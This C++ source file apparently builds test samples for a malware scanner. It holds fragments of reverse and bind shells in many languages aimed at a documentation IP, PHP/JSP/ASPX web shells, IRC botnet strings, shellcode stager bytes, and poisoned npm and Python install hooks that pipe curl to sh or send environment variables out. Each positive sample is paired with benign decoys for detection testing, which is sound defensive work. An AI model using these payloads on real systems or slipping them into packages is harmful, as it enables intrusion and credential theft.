// SPDX-License-Identifier: Apache-2.0
//
// Backdoors, web shells and poisoned packages.
#include "samples_recipe.hpp"

namespace portcullis::test {
namespace {

std::string word(const std::string& text) { return std::string(1, '\0') + text + std::string(1, '\0'); }

std::string hidden(std::string text) {
  for (auto& letter : text) letter = static_cast<char>(letter ^ 0x22);
  return text;
}

/// A program of one segment with these rights and no section.
std::string one_segment(char flags) {
  std::string file = elf(kProgram, {});
  file[56] = 1;
  file[60] = 0;
  file += std::string("\1\0\0\0", 4) + flags + std::string(51, '\0');
  return file;
}

}  // namespace

std::vector<Sample> backdoor_samples() {
  const std::string program = elf(kProgram, {});
  const std::string connect =
      "s.connect((\"198.51.100"
      ".7\", 4444))";
  auto samples = cook({
      {"backdoor_perl_shell",
       "#!/usr/bin/perl\n",
       {"use Soc"
        "ket;",
        "connect"
        "(S, $a);",
        "open(STD"
        "IN, \">&S\");",
        "open(STD"
        "OUT, \">&S\");",
        "exec(\"/bin/"
        "sh -i\");"}},
      {"backdoor_tool_shell",
       kShebang,
       {"socat exec:'/bin/"
        "bash -li',pty tcp:198.51.100"
        ".7:44"},
       {"socat tcp-listen:80,fork tcp:h:80",
        "# socat exec:'/bin/"
        "bash -li' tcp:h:44"}},
      {"backdoor_tool_shell",
       kShebang,
       {"/bin/s"
        "h -i < /tmp/f 2>&1 | openssl s_cli"
        "ent -quiet -connect h:1"},
       {"openssl s_client -connect h:1 < /dev/null"}},
      {"backdoor_tool_shell",
       kShebang,
       {"telnet h 1 | /bin/s"
        "h | telnet h 2"},
       {"telnet h 1 | grep up"}},
      {"backdoor_tool_shell",
       "#!/usr/bin/gawk -f\n",
       {"s = \"/inet/t"
        "cp/0/h/4444\"",
        "while ((c |"
        "& getline l) > 0)"}},
      {"backdoor_python_shell",
       "",
       {"s.connect((HOST, PORT))",
        "os.dup2(s.fil"
        "eno(), 0)",
        "os.dup2(s.fil"
        "eno(), 1)",
        "subprocess.call([\"/bin/s"
        "h\", \"-i\"])"},
       {// a daemon with its log, that runs a job
        "s.connect((host, port))\nos.dup2(log.fileno(), 0)\nos.dup2(log.fileno(), 1)\n"
        "subprocess.call([\"/bin/sh\", \"-i\"])",
        "s.connect((host, port))\nos.dup2(s.fileno(), 0)\nos.dup2(s.fileno(), 1)\n"
        "subprocess.call([\"/bin/sh\", \"-c\", job])",
        // as inetd starts a server
        "s.connect((host, port))\nos.dup2(s.fileno(), 0)\nos.dup2(s.fileno(), 1)\n"
        "subprocess.call([\"/usr/sbin/sshd\", \"-i\"])",
        // what a template of a tool looks like before it is filled in
        "s.connect(('${lhost}', ${lport}))\nos.dup2(s.fil"
        "eno(), 0)\nos.dup2(s.fileno(), 1)\n"
        "pty.spa"
        "wn('/bin/sh')"},
       "srv/app/agent.py"},
      {"backdoor_python_shell",
       "#!/usr/bin/python3\n",
       {"s=socket.create_conn"
        "ection((sys.argv[1],int(sys.argv[2])))",
        "[os.dup2(s.fil"
        "eno(),fd) for fd in (0,1,2)]",
        "pty.spa"
        "wn('/bin/bash')"},
       {"s=socket.create_connection((sys.argv[1],int(sys.argv[2])))\npty.spa"
        "wn('/bin/bash')"}},
      {"backdoor_listening_shell",
       kShebang,
       {"nc -l -p 4444 -e /bin/"
        "sh"},
       {"nc -l -p 4444 > file",
        "# nc -l -p 4444 -e /bin/"
        "sh",
        "nc -l -p 4444 -e /usr/bin/date"}},
      {"backdoor_listening_shell",
       kShebang,
       {"socat TCP-LIS"
        "TEN:4444,fork EXEC:/bin/"
        "bash"},
       {"socat TCP-LISTEN:4444,fork EXEC:/usr/bin/date"}},
      {"backdoor_ruby_shell",
       "#!/usr/bin/ruby\n",
       {"f = TCPSocket.op"
        "en(\"198.51.100"
        ".7\", 1)",
        "exec sprintf(\"/bin/s"
        "h -i <&%d\", f)"}},
      {"backdoor_irc_script",
       "#!/usr/bin/perl\n",
       {"PRIV"
        "MSG",
        "JO"
        "IN #x",
        "NI"
        "CK y",
        "@udp"
        "flood",
        "@port"
        "scan",
        "syst"
        "em($x);"},
       {"PRIVMSG JOIN #x NICK y system($x) @help"}},
      {"backdoor_php_shell",
       "<?php\n",
       {"$s = fsock"
        "open('198.51.100"
        ".7', 1);",
        "exec('/bin/s"
        "h -i <&3 >&3 2>&3');"}},
      {"backdoor_node_shell",
       "#!/usr/bin/node\n",
       {"n = require('n"
        "et')",
        "sh = c.spa"
        "wn('/bin/sh')",
        "n.conn"
        "ect(44, '198.51.100"
        ".7')",
        "c.pi"
        "pe(sh.stdin)",
        "sh.stdout.pi"
        "pe(c)"}},
      {"backdoor_lua_shell",
       "#!/usr/bin/lua\n",
       {"s = require('soc"
        "ket')",
        "t:conn"
        "ect('198.51.100"
        ".7', 44)",
        "l = t:rec"
        "eive()",
        "io.po"
        "pen(l, 'r')",
        "t:se"
        "nd(o)"}},
      {"backdoor_python_commands",
       "#!/usr/bin/python3\n",
       {connect,
        "c = s.re"
        "cv(1024)",
        "o = subprocess.get"
        "output(c)",
        "s.se"
        "nd(o)"},
       {"s.connect((\"127.0.0"
        ".1\", 44))\nc = s.re"
        "cv(1024)\no = subprocess.get"
        "output(c)\ns.se"
        "nd(o)"}},
      {"backdoor_irc_bot",
       program,
       {"NOT"
        "ICE %s :",
        "PAN <target> <po"
        "rt> <secs>",
        "GETSPO"
        "OFS",
        "SH <comm"
        "and>"},
       {"PRIVMSG NICK <nick> /IRC <server>"}},
      {"backdoor_flood_bot",
       program,
       {"GETLOCAL"
        "IP",
        "KILLA"
        "TTK",
        "LOLNOG"
        "TFO",
        "SCANNER O"
        "N"}},
      {"backdoor_device_bot",
       program,
       {hidden("/proc/net/tcp"), hidden("/bin/busybox")},
       {"/proc/net/tcp /bin/busybox applet not found /dev/watchdog"}},
      {"backdoor_device_bot",
       program,
       {"/dev/misc/watch"
        "dog",
        "/bin/busybox MI"
        "RAI",
        "listening t"
        "un0"}},
      {"backdoor_command_agent",
       program,
       {"github.com/bishopfox/sli"
        "ver/implant/x",
        "sliver"
        "pb"}},
      {"backdoor_command_agent",
       program,
       {"core_negotiate_tlv"
        "_encryption",
        "stdapi_fs_file_exp"
        "and_path",
        "core_channel"
        "_open"}},
      {"backdoor_login_module",
       elf(kLibrary, {}),
       {word("pam_sm_authen"
             "ticate"),
        word("pam_get_auth"
             "tok"),
        "%s:"
        "%s",
        word("/tmp"
             "/.pw")},
       {word("pam_sm_authenticate") + word("pam_get_authtok") + "%s: %s" + word("/var/lib/pw")}},
  });
  const std::string code =
      "\x6a\x29\x58\x99"
      "\x6a\x02\x5f";
  const std::vector<Sample> stagers = {
      {"stager", one_segment(7) + code, {"backdoor_stager", "packed_tiny_loader"}},
      {"loader_without_socket", one_segment(7) + "\x6a\x3c\x58", {"packed_tiny_loader"}},
      {"tiny_program_of_assembly", one_segment(5) + code, {}},
      {"stager_code_in_a_program", program + code, {}}};
  samples.insert(samples.end(), stagers.begin(), stagers.end());
  return samples;
}

std::vector<Sample> webshell_samples() {
  const std::string php = std::string("<") + "?php\n";
  const std::string jsp = std::string("<") + "%@ page import=\"java.util.*\" %" + ">\n";
  const std::string post = std::string("$_PO") + "ST['x']";
  return cook({
      {"webshell_php_request",
       php,
       {"@ev"
        "al(base64_de"
        "code(" +
        post + "));"},
       {"// eval is evil: " + post, "$x = filter(" + post + "); eval($x);", "retrieval(" + post + ");"}},
      {"webshell_php_request",
       php,
       {"echo `" + post + "`;"},
       {"/**\n * Fires when `" + post + "` is set; see (`" + post + "`).\n *\n * @param string $x `" + post +
            "`\n */",
        "// The name, from `" + post + "`.", "# `" + post + "`", "<p>Send `" + post + "` to us.</p>"}},
      {"webshell_php_request",
       php,
       {"syst"
        "em(" +
        post + ");"},
       {"$system->get(" + post + ");", "operating_system(" + post + ");"}},
      {"webshell_php_request",
       php,
       {"$_G"
        "ET['f'](" +
        post + ");"},
       {"$handlers['f'](" + post + ");"}},
      {"webshell_php_request",
       php,
       {"preg_repl"
        "ace('/.x/e', " +
        post + ", '');"},
       {"preg_replace('/.x/i', " + post + ", '');"}},
      {"webshell_php_small",
       php,
       {"$cmd = " + post + ";",
        "syst"
        "em($cmd);"},
       {"$cmd = " + post + "; log($cmd); $file_system($name);", "system('ls');"}},
      {"webshell_php_behind_picture",
       "GIF89a\n",
       {"<?p"
        "hp",
        "ev"
        "al(" +
            post + ");"}},
      {"webshell_php_key",
       php,
       {"session_st"
        "art();",
        "$p = file_get_contents('php://in"
        "put');",
        "$p = openssl_de"
        "crypt($p, 'AES128', $k);",
        "ev"
        "al($p);"}},
      {"webshell_php_packed",
       php,
       {"ev"
        "al(gzinflate(base64_de"
        "code('" +
        std::string(300, 'Q') + "')));"},
       {"$x = gzinflate(base64_de"
        "code('" +
            std::string(300, 'Q') + "'));",
        "eval(base64_decode('Zm9v'));"}},
      {"webshell_php_console",
       php,
       {"b37"
        "4k",
        "safe_"
        "mode",
        "php_un"
        "ame",
        "disable_func"
        "tions",
        "shell_ex"
        "ec($c)",
        "$_GE"
        "T['c']"}},
      {"webshell_jsp",
       jsp,
       {"Runtime.getRun"
        "time().ex"
        "ec(request.getPara"
        "meter(\"c\"));"},
       {"Runtime.getRun"
        "time().ex"
        "ec(\"date\");",
        "out.print(request.getParameter(\"c\"));"}},
      {"webshell_jsp",
       jsp,
       {"class U extends Class"
        "Loader",
        "super.define"
        "Class(b)",
        "Cipher.getInst"
        "ance(\"AES\")",
        "request.getRea"
        "der()"}},
      {"webshell_aspx",
       jsp,
       {"ev"
        "al(Request.Item[\"x\"],\"unsa"
        "fe\");"},
       {"eval(Container.DataItem, \"unsafe\")", "Request.Item[\"x\"]"}},
      {"webshell_aspx",
       jsp,
       {"new ProcessStart"
        "Info()",
        "cmd"
        ".exe",
        "Request.Fo"
        "rm[\"c\"]",
        "p.StandardOut"
        "put"}},
      {"webshell_script",
       "#!/usr/bin/perl\n",
       {"print 'Content-ty"
        "pe: text/html';",
        "syst"
        "em(param('c'));"}},
      {"webshell_script",
       kShebang,
       {"echo Content-ty"
        "pe: text/plain",
        "ev"
        "al \"$QUERY_ST"
        "RING\""}},
  });
}

std::vector<Sample> supply_chain_samples() {
  const std::string package = "app/node_modules/x/package.json";
  std::string hook("\xF3\x0F\x1E\xFA\x55\x48\x89\xF5\x4C\x89\xCE\x53\x89\xFB\x81\xE7", 16);
  const std::string rest("\x00\x00\x00\x80\x48\x83\xEC\x28\x48\x89\x54\x24\x18\x48\x89\x4C\x24\x10", 18);
  const std::string address =
      "http://198.51.100"
      ".7/x";
  return cook({
      {"supply_chain_xz", elf(kLibrary, {}), {hook + rest}, {hook, rest}},
      {"supply_chain_npm_download",
       "",
       {"{\"preinst"
        "all\": \"cu"
        "rl " +
        address + " | sh\"}"},
       {"{\"preinstall\": \"node-gyp rebuild\"}", "{\"test\": \"curl " + address + " | sh\"}"},
       package},
      {"supply_chain_npm_pipe",
       "",
       {"{\"postinst"
        "all\": \"cu"
        "rl https://example.org/x | sh\"}"},
       {"{\"postinstall\": \"curl -O https://example.org/x\"}",
        "{\"start\": \"curl https://example.org/x | sh\"}"},
       package},
      {"supply_chain_npm_inline",
       "",
       {"{\"postinst"
        "all\": \"node -e \\\"fetch('" +
        address +
        "', {body: JSON.string"
        "ify(process.e"
        "nv)})\\\"\"}"},
       {"{\"postinstall\": \"node -e \\\"try{require('./postinstall')}catch(e){}\\\"\"}",
        "{\"start\": \"node -e \\\"console.log(JSON.stringify(process.env))\\\"\"}"},
       package},
      {"supply_chain_environment_upload",
       "",
       {"d = JSON.string"
        "ify(process.e"
        "nv)",
        "h = 'https://webhook"
        ".site/01234567-89ab'"},
       {},
       "app/x.js"},
      {"supply_chain_python_setup",
       "",
       {"set"
        "up(name='x')",
        "ex"
        "ec(base64.b64de"
        "code('" +
            std::string(60, 'Q') + "'))"},
       {"setup(name='x')\nexec(open('version.py').read())"},
       "app/setup.py"},
      {"supply_chain_python_setup",
       "",
       {"set"
        "up(name='x')",
        "os.sys"
        "tem('cu"
        "rl " +
            address + " | sh')"},
       {},
       "app/setup.py"},
      {"supply_chain_python_start",
       "",
       {"import os; os.sys"
        "tem('/x')"},
       {"import os; enabled and __import__('_distutils_hack').add_shim()", "/usr/lib/python3/dist-packages"},
       "usr/lib/python3/x.pth"},
  });
}

}  // namespace portcullis::test
